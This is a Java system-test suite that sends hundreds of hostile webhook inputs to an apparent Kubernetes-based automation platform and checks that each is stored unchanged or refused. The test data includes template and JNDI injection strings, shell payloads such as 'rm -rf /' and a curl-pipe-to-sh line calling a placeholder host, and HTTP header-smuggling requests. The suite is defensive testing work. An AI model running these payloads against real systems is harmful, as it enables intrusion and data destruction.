package io.squall.systemtests;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.nats.client.Connection;
import io.nats.client.Nats;
import io.squall.api.messages.Json;
import io.squall.api.messages.Subjects;
import io.squall.api.messages.TriggerEvent;
import io.squall.api.messages.TriggerPublisher;
import io.squall.api.v1alpha1.Execution;
import io.squall.api.v1alpha1.ExecutionPhase;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Function;
import java.util.stream.Collectors;

/**
 * Issue 16's bad-input suite, on the whole local stack (real kube-apiserver + etcd, nats-server, the packaged
 * operator, the sensors program, runner processes): a few hundred hostile webhook bodies and trigger payloads —
 * template syntax of every kind, shell metacharacters, control and exotic Unicode characters, huge strings and deep
 * nesting within the body limit, bytes that are not UTF-8, duplicate keys, numbers Kubernetes cannot keep, header
 * tricks — each either becomes one Execution whose parameter equals the input byte for byte (the action reports
 * the SHA-256 of what it received), or is refused with a clear error; the operator and the sensor stay healthy,
 * nothing is lost, nothing runs twice. Deterministic (seeded), bounded: one runner process per accepted input.
 */
final class BadInputSuite {
    static final String NS = "default";
    static final String SENSOR = "bad-input";
    static final String RULE = "take-every-input";
    static final String TOKEN = "bad-input-token";
    static final String TYPE = "bad.input";
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final int MIB = 1 << 20;

    /** What a case expects. */
    sealed interface Expect {}

    /** 202, an Execution whose {@code value} equals this, Succeeded with its SHA-256 (or Failed saying why). */
    record Accepted(JsonNode value, String agent, String failure) implements Expect {}

    /** Refused by the webhook with this status and a body containing this text. */
    record Refused(int status, String reason) implements Expect {}

    /** A malformed request the HTTP server refuses, or takes: then its Execution's agent is what was sent. */
    record RawHeaders(String agent) implements Expect {}

    record Case(String name, byte[] body, String contentType, String agent, Expect expect, byte[] raw) {
        static Case json(String name, String body, Expect expect) {
            return new Case(
                    name, body.getBytes(StandardCharsets.UTF_8), "application/json", "bad-input-suite", expect, null);
        }
    }

    private final KubernetesClient client;
    private final URI webhook;
    private final String natsUrl;
    private final HttpClient http =
            HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    private final List<String> report = new ArrayList<>();

    BadInputSuite(KubernetesClient client, URI webhook, String natsUrl) {
        this.client = client;
        this.webhook = webhook;
        this.natsUrl = natsUrl;
    }

    /** The Sensor, Rule and Action the suite posts to (kubectl apply -f of this text). */
    static String manifests() {
        return """
            apiVersion: v1
            kind: Secret
            metadata: {name: bad-input-token, namespace: default}
            stringData: {token: bad-input-token}
            ---
            apiVersion: squall.io/v1alpha1
            kind: Sensor
            metadata: {name: bad-input, namespace: default}
            spec:
              type: webhook
              secretRef: bad-input-token
              webhook: {path: bad, auth: token, triggerType: bad.input}
            ---
            apiVersion: squall.io/v1alpha1
            kind: Action
            metadata: {name: report-input, namespace: default}
            spec:
              description: Reports the SHA-256 and length of what it was given, as the action sees it.
              runner: shell
              command: >-
                f=$(mktemp); if [ -n "${SQUALL_PARAM_VALUE_FILE+set}" ]; then cat "$SQUALL_PARAM_VALUE_FILE";
                else printf '%s' "$SQUALL_PARAM_VALUE"; fi > "$f";
                printf 'value=%s/%s agent=%s' "$(sha256sum < "$f" | cut -c1-64)" "$(wc -c < "$f" | tr -d ' ')"
                "$(printf '%s' "$SQUALL_PARAM_AGENT" | sha256sum | cut -c1-64)"
              parameters:
                value: {}
                agent: {type: string}
              # a burst of a few hundred queues on the local node's 4 runner slots, and a Job's deadline counts the
              # wait: room for it (each run takes well under a second)
              timeout: 600
            ---
            apiVersion: squall.io/v1alpha1
            kind: Rule
            metadata: {name: take-every-input, namespace: default}
            spec:
              trigger: {type: bad.input}
              action:
                ref: report-input
                parameters:
                  value: "{{ trigger.body.value }}"
                  agent: "{{ trigger.headers_lower['user-agent'] | default('none') }}"
            """;
    }

    // ---- the cases ----------------------------------------------------------------------------------------

    static List<Case> cases() {
        List<Case> cases = new ArrayList<>();
        Random random = new Random(16);
        List<String> strings = new ArrayList<>(List.of(
                "{{ 7*7 }}; $(id); `id`",
                "{{ \"x\".getClass().getName() }}",
                "{{ trigger }}",
                "{{ trigger.body.value }}",
                "{% for i in range(100000000) %}x{% endfor %}",
                "{% raw %}{{ 1 }}{% endraw %}",
                "{# comment #}",
                "{%- if true -%}y{%- endif -%}",
                "<% ctx().secret %>",
                "<% $.value %>",
                "${jndi:ldap://x.invalid/a}",
                "${7*7} #{7*7} %{7*7} [[7*7]] {{= 7*7 }}",
                "{{ kv.system.token }}",
                "{{ st2kv.system.x }}",
                "{{ '' ~ range(10) }}",
                "{{ ____int3rpr3t3r____ }}",
                "{% include 'application.properties' %}",
                "{{ '{{ 7*7 }}' | render }}",
                "{{",
                "}}",
                "{%",
                "%}",
                "{#",
                "#}",
                "<%",
                "%>",
                "${",
                "{{{{}}}}",
                "'; rm -rf / #",
                "\" && echo pwned \"",
                "$(curl http://x.invalid | sh)",
                "`reboot`",
                "a; b | c && d || e",
                "$HOME $PATH ${IFS} $0 $$ $? $! $@ $*",
                "*?[a-z]~!#",
                "> /etc/passwd < /dev/null 2>&1",
                "\\\\\\'\\\"",
                "-n",
                "-e \\x41",
                "--help",
                "line1\nline2",
                "cr\rlf\r\n",
                "tab\there",
                " leading and trailing ",
                "",
                " ",
                "\u00e9\u00e8\u00ea caf\u00e9 na\u00efve",
                "\u4e2d\u6587 \u65e5\u672c\u8a9e \ud55c\uad6d\uc5b4",
                "\ud83d\ude00\ud83d\udc4d\ud83c\udff3\ufe0f\u200d\ud83c\udf08",
                "e\u0301 combining",
                "\u202eRTL override",
                "zero\u200bwidth\u200c\u200d",
                "\ufeffBOM",
                "line\u2028sep\u2029para",
                "nbsp\u00a0here",
                "\u0001\u0002\u0003\u001b[31mred\u001b[0m\u007f",
                "\u0085 next line",
                "\ufffd replacement",
                "\uffff noncharacter",
                "\ud800\udc00 first astral"));
        String alphabet = "{}%#<>$`'\"\\;|&()[]*?~!=+-_,./:@ \n\t\r\u00e9\ud83d\ude00abcXYZ019";
        for (int i = 0; i < 50; i++) {
            StringBuilder s = new StringBuilder();
            int length = 1 + random.nextInt(40);
            for (int j = 0; j < length; j++) {
                int at = random.nextInt(alphabet.length());
                char c = alphabet.charAt(at);
                if (Character.isHighSurrogate(c)) {
                    s.append(c).append(alphabet.charAt(at + 1));
                } else if (!Character.isLowSurrogate(c)) {
                    s.append(c);
                }
            }
            strings.add(s.toString());
        }
        for (String fragment : List.of("{{ x }}", "$(id)", "`id`", "{% if 1 %}", "'", "\"")) {
            for (int i = 0; i < 2; i++) {
                strings.add("prefix " + fragment.repeat(1 + random.nextInt(5)) + " " + i);
            }
        }
        for (int i = 0; i < strings.size(); i++) {
            String value = strings.get(i);
            cases.add(Case.json("string " + i, body(NODES.textNode(value)), accepted(NODES.textNode(value))));
        }
        // the same texts as form data and in a header the rule reads
        for (int i = 0; i < 12; i++) {
            String value = strings.get(i * 5);
            cases.add(new Case(
                    "form " + i,
                    ("value=" + java.net.URLEncoder.encode(value, StandardCharsets.UTF_8) + "&other=1")
                            .getBytes(StandardCharsets.UTF_8),
                    "application/x-www-form-urlencoded",
                    "bad-input-suite",
                    accepted(NODES.textNode(value)),
                    null));
        }
        for (int i = 0; i < 6; i++) {
            String agent = strings.get(i).replaceAll("[\\p{Cntrl}\\u0080-\\uffff]", "_");
            cases.add(new Case(
                    "agent " + i,
                    body(NODES.textNode("x")).getBytes(StandardCharsets.UTF_8),
                    "application/json",
                    agent,
                    new Accepted(NODES.textNode("x"), agent, null),
                    null));
        }
        // NUL is data to JSON and Kubernetes, but no process can be given it: the run fails saying so
        for (String nul : List.of("\u0000", "a\u0000b", "{{ 7*7 }}\u0000$(id)")) {
            cases.add(Case.json(
                    "nul " + nul.length(),
                    body(NODES.textNode(nul)),
                    new Accepted(NODES.textNode(nul), "bad-input-suite", "parameters.value contains a NUL character")));
        }
        // structures: objects and arrays of hostile text, deep nesting within the limit
        for (int i = 0; i < 10; i++) {
            ObjectNode object = NODES.objectNode();
            object.put("{{ key }}", strings.get(i))
                    .putArray("$(list)")
                    .add(strings.get(i + 10))
                    .add(i)
                    .add(true)
                    .addNull();
            object.putObject("nested").put("`k`", strings.get(i + 20));
            cases.add(Case.json("object " + i, body(object), accepted(object)));
        }
        for (int depth : new int[] {50, 200, 450}) {
            String nested = "[".repeat(depth) + "\"{{ deep }}\"" + "]".repeat(depth);
            cases.add(Case.json("nested " + depth, "{\"value\": " + nested + "}", accepted(parse(nested))));
        }
        cases.add(Case.json(
                "nested 600",
                "{\"value\": " + "[".repeat(600) + "]".repeat(600) + "}",
                new Refused(400, "nested more than 500 levels deep")));
        cases.add(Case.json(
                "nested 5000", "{\"value\": " + "[".repeat(5000) + "]".repeat(5000) + "}", new Refused(400, "depth")));
        // numbers: what Kubernetes keeps exactly is accepted, the rest is refused naming the value
        for (String number : List.of(
                "0",
                "-1",
                "42",
                "9223372036854775807",
                "-9223372036854775808",
                "0.1",
                "1.5e300",
                "5e-324",
                "-0.0",
                "1.0",
                "1e2",
                "123.456")) {
            cases.add(Case.json("number " + number, "{\"value\": " + number + "}", accepted(parse(number))));
        }
        for (String number : List.of(
                "9223372036854775808",
                "-9223372036854775809",
                "123456789012345678901234567890",
                "1e400",
                "-1e400",
                "1e-400",
                "0.1000000000000000055511151231257827")) {
            cases.add(
                    Case.json("number " + number, "{\"value\": " + number + "}", new Refused(400, "body.value: the ")));
        }
        for (String invalid : List.of("NaN", "Infinity", "-Infinity", "01", "1.", ".5", "0x10", "+1")) {
            cases.add(Case.json(
                    "not json " + invalid, "{\"value\": " + invalid + "}", new Refused(400, "body is not valid JSON")));
        }
        // duplicate keys, lone surrogates, bytes that are not UTF-8
        cases.add(Case.json(
                "duplicate", "{\"value\": \"a\", \"value\": \"b\"}", new Refused(400, "Duplicate field 'value'")));
        cases.add(Case.json(
                "duplicate nested", "{\"value\": {\"k\": 1, \"k\": 1}}", new Refused(400, "Duplicate field 'k'")));
        cases.add(Case.json(
                "duplicate case", "{\"value\": {\"k\": 1, \"K\": 2}}", accepted(parse("{\"k\": 1, \"K\": 2}"))));
        for (String escape : List.of("\\ud800", "a\\udc00b", "\\udbff\\udbff")) {
            cases.add(Case.json(
                    "surrogate " + escape,
                    "{\"value\": \"" + escape + "\"}",
                    new Refused(400, "unpaired UTF-16 surrogate")));
        }
        int[][] badBytes = {
            {0xff},
            {0xfe, 0xff},
            {0xc3, 0x28},
            {0xc0, 0xaf},
            {0xe0, 0x80, 0xaf},
            {0xed, 0xa0, 0x80},
            {0xf4, 0x90, 0x80, 0x80},
            {0xe2, 0x82},
            {0x80},
            {0xf8, 0x88, 0x80, 0x80, 0x80}
        };
        for (int[] bad : badBytes) {
            ByteArrayOutputStream body = new ByteArrayOutputStream();
            body.writeBytes("{\"value\": \"x".getBytes(StandardCharsets.UTF_8));
            for (int b : bad) {
                body.write(b);
            }
            body.writeBytes("\"}".getBytes(StandardCharsets.UTF_8));
            cases.add(new Case(
                    "utf8 " + HexFormat.of().formatHex(body.toByteArray(), 12, 12 + bad.length),
                    body.toByteArray(),
                    "application/json",
                    "bad-input-suite",
                    new Refused(400, "body is not valid UTF-8 (byte 12: 0x"),
                    null));
        }
        cases.add(new Case(
                "utf16",
                "{\"value\": 1}".getBytes(StandardCharsets.UTF_16),
                "application/json; charset=utf-16",
                "bad-input-suite",
                new Refused(400, "body is not valid UTF-8"),
                null));
        cases.add(new Case(
                "form latin1 as utf8",
                "value=caf%E9".getBytes(StandardCharsets.US_ASCII),
                "application/x-www-form-urlencoded",
                "bad-input-suite",
                new Refused(400, "not valid UTF-8 text"),
                null));
        cases.add(new Case(
                "form bad escape",
                "value=%zz".getBytes(StandardCharsets.US_ASCII),
                "application/x-www-form-urlencoded",
                "bad-input-suite",
                new Refused(400, "malformed form data"),
                null));
        cases.add(Case.json("empty", "", new Refused(400, "empty body")));
        cases.add(Case.json(
                "top-level string", "\"{{ 7*7 }}\"", new Refused(400, "body must be a JSON object or array")));
        cases.add(Case.json("trailing", "{\"value\": 1} {}", new Refused(400, "body is not valid JSON")));
        // bodies the rule cannot render: the Execution is created Failed, naming the template and the variable
        cases.add(Case.json(
                "array body",
                "[\"{{ 7*7 }}\"]",
                new Accepted(null, null, "references undefined variable 'trigger.body.value'")));
        cases.add(Case.json(
                "no value",
                "{\"other\": \"$(id)\"}",
                new Accepted(null, null, "references undefined variable 'trigger.body.value'")));
        // huge strings: kept whole through the environment file; refused where a limit is, saying which
        String big = "{{ 7*7 }}$(id)".repeat(300 * 1024 / 14);
        cases.add(Case.json("string 300 KiB", body(NODES.textNode(big)), accepted(NODES.textNode(big))));
        String quotes = "\"'\\".repeat(60_000);
        cases.add(Case.json("escapes 180 KiB", body(NODES.textNode(quotes)), accepted(NODES.textNode(quotes))));
        cases.add(Case.json(
                "string 600 KiB",
                body(NODES.textNode("x".repeat(600 * 1024))),
                new Accepted(null, null, "over the 524288 an Execution may carry")));
        // just under maxBodyBytes (1 MiB), but with the headers and ids the trigger is over NATS's max_payload (1 MiB)
        cases.add(Case.json(
                "string 1 MiB - 600",
                body(NODES.textNode("y".repeat(MIB - 600))),
                new Refused(413, "(max_payload): send less data")));
        cases.add(
                Case.json("string 2 MiB", body(NODES.textNode("z".repeat(2 * MIB))), new Refused(413, "maxBodyBytes")));
        // header tricks, on a raw connection (HTTP clients refuse to send them)
        for (String header : List.of(
                "User-Agent: a\rb",
                "User-Agent: a\u0000b",
                "User-Agent: a\r\n folded",
                "User Agent: spaced name",
                "User-Agent: " + "h".repeat(20_000),
                "User-Agent: caf\u00e9",
                "User-Agent: {{ 7*7 }} $(id)",
                "Content-Length: 5\r\nContent-Length: 6",
                "Transfer-Encoding: chunked",
                "X-Injected: x\r\nUser-Agent: second")) {
            cases.add(new Case(
                    "header "
                            + header.substring(0, Math.min(header.length(), 24)).replaceAll("\\p{Cntrl}", "?"),
                    null,
                    "application/json",
                    null,
                    new RawHeaders(
                            header.startsWith("User-Agent: ") && !header.contains("\r") && !header.contains("\u0000")
                                    ? header.substring(12)
                                    : null),
                    header.startsWith("Transfer-Encoding")
                            ? raw(header, "5\r\n{\"val\r\nzz\r\n\r\n")
                            : raw(header, body(NODES.textNode("h")))));
        }
        return cases;
    }

    private static Accepted accepted(JsonNode value) {
        return new Accepted(value, "bad-input-suite", null);
    }

    private static String body(JsonNode value) {
        return NODES.objectNode().set("value", value).toString();
    }

    private static JsonNode parse(String json) {
        try {
            return Json.mapper().readTree(json);
        } catch (IOException e) {
            throw new IllegalArgumentException(e);
        }
    }

    /** A request with an extra header line, written byte for byte (ISO-8859-1: each char one byte). */
    private static byte[] raw(String header, String body) {
        byte[] payload = body.getBytes(StandardCharsets.UTF_8);
        boolean framing = header.startsWith("Content-Length") || header.startsWith("Transfer-Encoding");
        String head = "POST /bad HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer " + TOKEN
                + "\r\nContent-Type: application/json\r\nConnection: close\r\n" + header + "\r\n"
                + (framing ? "" : "Content-Length: " + payload.length + "\r\n") + "\r\n";
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(head.getBytes(StandardCharsets.ISO_8859_1));
        out.writeBytes(payload);
        return out.toByteArray();
    }

    // ---- running them -------------------------------------------------------------------------------------

    record Sent(Case c, int status, String body, String triggerId) {}

    /** Posts every case, checks every answer and every Execution; returns a line per outcome kind for the log. */
    List<String> run() throws Exception {
        List<Case> cases = cases();
        assertThat(cases.size()).as("a few hundred inputs").isBetween(200, 400);
        List<Sent> sent = new ArrayList<>();
        for (Case c : cases) {
            sent.add(send(c));
        }
        List<TriggerEvent> direct = publishDirectly();

        Map<String, Sent> accepted = new LinkedHashMap<>();
        for (Sent s : sent) {
            Expect expect = s.c().expect();
            if (expect instanceof Refused refused) {
                assertThat(s.status()).as("%s: %s", s.c().name(), s.body()).isEqualTo(refused.status());
                assertThat(s.body()).as(s.c().name()).contains(refused.reason());
            } else if (expect instanceof Accepted) {
                assertThat(s.status()).as("%s: %s", s.c().name(), s.body()).isEqualTo(202);
                accepted.put(s.triggerId(), s);
            } else if (s.status() == 202) {
                accepted.put(s.triggerId(), s);
            } else {
                assertThat(s.status())
                        .as("%s refused by the HTTP server: %s", s.c().name(), s.body())
                        .satisfiesAnyOf(
                                status -> assertThat(status).isBetween(400, 499),
                                status -> assertThat(status).isEqualTo(-1));
                assertThat(s.triggerId()).isNull();
            }
        }
        for (TriggerEvent event : direct) {
            accepted.put(event.id(), null);
        }

        // every accepted input ends as exactly one Execution, in a final phase
        Map<String, Execution> executions = await("an Execution per accepted input, each finished")
                .atMost(Duration.ofMinutes(8))
                .pollInterval(Duration.ofSeconds(3))
                .until(
                        this::executionsByTrigger,
                        byTrigger -> byTrigger.keySet().containsAll(accepted.keySet())
                                && accepted.keySet().stream().allMatch(id -> isFinal(byTrigger.get(id))));
        assertThat(executions.keySet()).as("nothing else ran").isEqualTo(accepted.keySet());
        long all = client.resources(Execution.class)
                .inNamespace(NS)
                .withLabel("squall.io/rule", RULE)
                .list()
                .getItems()
                .size();
        assertThat(all).as("nothing ran twice").isEqualTo(accepted.size());

        for (Map.Entry<String, Sent> entry : accepted.entrySet()) {
            Execution execution = executions.get(entry.getKey());
            if (entry.getValue() == null) {
                checkDirect(
                        execution,
                        direct.stream()
                                .filter(e -> e.id().equals(entry.getKey()))
                                .findFirst()
                                .orElseThrow());
            } else {
                check(entry.getValue(), execution);
            }
        }
        try (Connection nats = Nats.connect(natsUrl)) {
            assertThat(nats.jetStreamManagement()
                            .getStreamInfo(Subjects.DEAD_LETTER_STREAM)
                            .getStreamState()
                            .getMsgCount())
                    .as("the malformed trigger is dead-lettered")
                    .isPositive();
        }
        report.add(cases.size() + " webhook inputs + " + direct.size() + " direct triggers: " + accepted.size()
                + " Executions, " + (cases.size() - (accepted.size() - direct.size())) + " refused");
        return report;
    }

    private Sent send(Case c) throws Exception {
        if (c.raw() != null) {
            return sendRaw(c);
        }
        HttpRequest.Builder request = HttpRequest.newBuilder(webhook)
                .timeout(Duration.ofSeconds(30))
                .header("Authorization", "Bearer " + TOKEN)
                .header("Content-Type", c.contentType())
                .POST(HttpRequest.BodyPublishers.ofByteArray(c.body()));
        if (c.agent() != null) {
            request.header("User-Agent", c.agent());
        }
        HttpResponse<String> response = http.send(request.build(), HttpResponse.BodyHandlers.ofString());
        return new Sent(c, response.statusCode(), response.body(), triggerId(response.statusCode(), response.body()));
    }

    private Sent sendRaw(Case c) throws IOException {
        try (Socket socket = new Socket(webhook.getHost(), webhook.getPort())) {
            socket.setSoTimeout(30_000);
            OutputStream out = socket.getOutputStream();
            out.write(c.raw());
            out.flush();
            byte[] answer = readAll(socket.getInputStream());
            String text = new String(answer, StandardCharsets.ISO_8859_1);
            int status =
                    text.startsWith("HTTP/1.1 ") && text.length() >= 12 ? Integer.parseInt(text.substring(9, 12)) : -1;
            // -1: the HTTP server dropped the connection (malformed framing): refused, nothing stored
            int split = text.indexOf("\r\n\r\n");
            String body =
                    split < 0 ? "" : new String(answer, split + 4, answer.length - split - 4, StandardCharsets.UTF_8);
            return new Sent(c, status, body, triggerId(status, body));
        }
    }

    private static byte[] readAll(InputStream in) throws IOException {
        try {
            return in.readAllBytes();
        } catch (java.net.SocketException e) {
            return new byte[0]; // reset after a refusal: reported as no answer
        }
    }

    private static String triggerId(int status, String body) {
        return status == 202 ? parse(body).path("id").asText(null) : null;
    }

    /** Payloads a custom sensor could publish, straight to the stream: the same rules apply to them. */
    private List<TriggerEvent> publishDirectly() throws Exception {
        List<TriggerEvent> events = new ArrayList<>();
        try (Connection nats = Nats.connect(natsUrl)) {
            TriggerPublisher publisher = new TriggerPublisher(nats.jetStream());
            int i = 0;
            for (String value :
                    List.of("{{ 7*7 }}; $(id)", "{% for i in range(100000000) %}x{% endfor %}", "<% ctx() %> ${x}")) {
                ObjectNode payload = NODES.objectNode();
                payload.putObject("body").put("value", value);
                payload.putObject("headers_lower").put("user-agent", "direct");
                TriggerEvent event = new TriggerEvent("direct-" + i++, TYPE, NS, payload, Instant.now(), "test", "t");
                publisher.publish(event);
                events.add(event);
            }
            ObjectNode huge = NODES.objectNode();
            huge.putObject("body").put("value", new java.math.BigInteger("123456789012345678901234567890"));
            TriggerEvent event = new TriggerEvent("direct-huge-int", TYPE, NS, huge, Instant.now(), "test", "t");
            publisher.publish(event);
            events.add(event);
            // not a trigger event at all: dead-lettered, never an Execution
            nats.jetStream()
                    .publish(Subjects.trigger(NS, TYPE), "{\"not\": \"a trigger\"".getBytes(StandardCharsets.UTF_8));
        }
        return events;
    }

    private Map<String, Execution> executionsByTrigger() {
        return client
                .resources(Execution.class)
                .inNamespace(NS)
                .withLabel("squall.io/rule", RULE)
                .list()
                .getItems()
                .stream()
                .filter(e -> e.getSpec().context != null && e.getSpec().context.triggerId != null)
                .collect(Collectors.toMap(e -> e.getSpec().context.triggerId, Function.identity(), (a, b) -> a));
    }

    private static boolean isFinal(Execution execution) {
        return execution != null
                && execution.getStatus() != null
                && execution.getStatus().phase != null
                && execution.getStatus().phase.isFinal();
    }

    private void check(Sent sent, Execution execution) throws Exception {
        String name = sent.c().name();
        JsonNode value;
        String agent;
        String failure;
        if (sent.c().expect() instanceof Accepted accepted) {
            value = accepted.value();
            agent = accepted.agent();
            failure = accepted.failure();
        } else {
            value = NODES.textNode("h");
            agent = ((RawHeaders) sent.c().expect()).agent();
            failure = null;
            if (agent == null) {
                // what the server made of a malformed header: only that nothing was evaluated
                agent = execution.getSpec().parameters.get("agent").textValue();
            }
        }
        var status = execution.getStatus();
        if (failure != null) {
            assertThat(status.phase).as("%s: %s", name, status.error).isEqualTo(ExecutionPhase.Failed);
            assertThat(status.error).as(name).contains(failure);
            if (value != null) {
                assertThat(execution.getSpec().parameters.get("value")).as(name).isEqualTo(value);
            }
            return;
        }
        JsonNode stored = execution.getSpec().parameters.get("value");
        assertThat(stored.equals(NUMERIC, value))
                .as("%s: stored %s, sent %s", name, abbreviated(stored), abbreviated(value))
                .isTrue();
        assertThat(execution.getSpec().parameters.get("agent").textValue())
                .as(name)
                .isEqualTo(agent);
        assertThat(status.phase).as("%s: %s", name, status.error).isEqualTo(ExecutionPhase.Succeeded);
        String text = stored.isTextual() ? stored.textValue() : stored.toString();
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        assertThat(status.result.path("stdout").asText())
                .as("%s: what the action received", name)
                .isEqualTo("value=" + sha256(bytes) + "/" + bytes.length + " agent="
                        + sha256(agent.getBytes(StandardCharsets.UTF_8)));
    }

    private void checkDirect(Execution execution, TriggerEvent event) throws Exception {
        JsonNode value = event.payload().path("body").path("value");
        var status = execution.getStatus();
        if (value.isBigInteger()) {
            assertThat(status.phase).isEqualTo(ExecutionPhase.Failed);
            assertThat(status.error)
                    .contains("parameter 'value': value: the integer 123456789012345678901234567890 "
                            + "is outside the 64-bit range that Kubernetes stores exactly");
            return;
        }
        assertThat(execution.getSpec().parameters.get("value")).isEqualTo(value);
        assertThat(status.phase).as(String.valueOf(status.error)).isEqualTo(ExecutionPhase.Succeeded);
        byte[] bytes = value.textValue().getBytes(StandardCharsets.UTF_8);
        assertThat(status.result.path("stdout").asText())
                .isEqualTo("value=" + sha256(bytes) + "/" + bytes.length + " agent="
                        + sha256("direct".getBytes(StandardCharsets.UTF_8)));
    }

    /** Numbers by value (Kubernetes writes 1.0 as 1), everything else as JSON. */
    private static final java.util.Comparator<JsonNode> NUMERIC = (a, b) -> {
        if (a.isNumber() && b.isNumber()) {
            if (a.isFloatingPointNumber() || b.isFloatingPointNumber()) {
                return Double.compare(a.doubleValue() + 0.0, b.doubleValue() + 0.0);
            }
            return a.bigIntegerValue().compareTo(b.bigIntegerValue());
        }
        return a.equals(b) ? 0 : 1;
    };

    private static String abbreviated(JsonNode node) {
        String text = String.valueOf(node);
        return text.length() > 200 ? text.substring(0, 200) + "... (" + text.length() + ")" : text;
    }

    private static String sha256(byte[] bytes) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    }
}
